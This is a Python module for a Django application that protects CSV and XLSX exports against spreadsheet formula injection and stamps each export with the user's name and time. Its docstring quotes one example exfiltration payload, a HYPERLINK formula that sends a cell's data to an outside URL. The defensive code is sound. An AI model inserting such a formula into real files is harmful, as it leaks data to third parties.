"""Cells of a CSV or XLSX file a user downloads and opens in a spreadsheet.

A spreadsheet runs a cell that starts with `= + - @` (or a tab or carriage return before one) as a
formula: a name typed as `=HYPERLINK("http://…?"&A1,"点击")` in a roster would send a row to a
stranger when the error report or the audit export is opened (CSV injection, OWASP). Such a text
is written with a leading apostrophe in a CSV file, which shows it as text; numbers stay numbers.
An XLSX file stores each cell with its type: with _XLSX_OPTIONS a text is always a string cell,
never run and shown exactly as typed.

Every export carries who made it and when (a watermark): the first line of a CSV file and the
first row of an XLSX sheet read "导出人：姓名（账号）　时间：2026-09-01 08:30", and the XLSX
document properties (author, comments, created) say the same. The only ways to write an export
are `csv_lines` and `xlsx_workbook` below, and both require the user: no export can forget it
(`tests/core/test_exports.py` checks no other module writes CSV or XLSX files for download).
"""

from __future__ import annotations

import datetime
import unicodedata
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from typing import Any

from django.utils import timezone
from django.utils.translation import gettext as _

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# xlsxwriter: never turn a string into a formula, a number or a link.
_XLSX_OPTIONS = {
    "strings_to_formulas": False,
    "strings_to_numbers": False,
    "strings_to_urls": False,
}
_CITY_TZ = datetime.timezone(datetime.timedelta(hours=8))  # exports are read in China


@dataclass(frozen=True)
class Watermark:
    """Who made an export and when."""

    who: str
    at: datetime.datetime

    @classmethod
    def of(cls, user: Any, at: datetime.datetime | None = None) -> Watermark:
        if user is None or not getattr(user, "is_authenticated", False):
            raise ValueError("an export needs the signed-in user who makes it")
        full = user.get_full_name() if hasattr(user, "get_full_name") else ""
        who = f"{full}（{user.get_username()}）" if full else user.get_username()
        return cls(who=who, at=at or timezone.now())

    @property
    def local_time(self) -> str:
        return self.at.astimezone(_CITY_TZ).strftime("%Y-%m-%d %H:%M")

    @property
    def line(self) -> str:
        return _("Exported by: %(who)s  Time: %(time)s") % {
            "who": self.who,
            "time": self.local_time,
        }


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(user: Any, header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """A CSV export as lines (for a streamed response): BOM (Excel reads UTF-8 Chinese text),
    the watermark, the header, then every row with formula-like texts neutralised."""
    import csv

    mark = Watermark.of(user)
    writer = csv.writer(_Echo())
    yield "\ufeff" + writer.writerow(safe_row([mark.line]))
    yield writer.writerow(safe_row(header))
    for row in rows:
        yield writer.writerow(safe_row(row))


def watermark_csv(user: Any, body: bytes) -> bytes:
    """A CSV file made earlier (UTF-8, with or without BOM) with the watermark of who downloads
    it put first."""
    import csv
    import io

    text = body.decode("utf-8-sig")
    buffer = io.StringIO()
    csv.writer(buffer).writerow(safe_row([Watermark.of(user).line]))
    return ("\ufeff" + buffer.getvalue() + text).encode("utf-8")


def xlsx_workbook(
    target: Any,
    user: Any,
    *,
    sheet_name: str,
    header: list[Any],
    constant_memory: bool = False,
) -> tuple[Any, Any, int]:
    """An XLSX export: the workbook (string cells never run), its one sheet with the watermark in
    the first row and the header (bold) in the second, and the index of the first data row.
    The document properties carry the watermark too. The caller writes rows and closes it."""
    import xlsxwriter

    mark = Watermark.of(user)
    options: dict[str, Any] = {**_XLSX_OPTIONS}
    if constant_memory:
        options["constant_memory"] = True
    else:
        options["in_memory"] = True
    book = xlsxwriter.Workbook(target, options)
    book.set_properties(
        {"author": mark.who, "comments": mark.line, "created": mark.at.replace(tzinfo=None)}
    )
    sheet = book.add_worksheet(sheet_name[:31])
    sheet.write_string(0, 0, mark.line)
    sheet.write_row(1, 0, header, book.add_format({"bold": True}))
    return book, sheet, 2


def has_control_characters(value: str) -> bool:
    """Control, format or unassigned code points (Unicode categories C*): never in a name."""
    return any(unicodedata.category(ch).startswith("C") for ch in value)
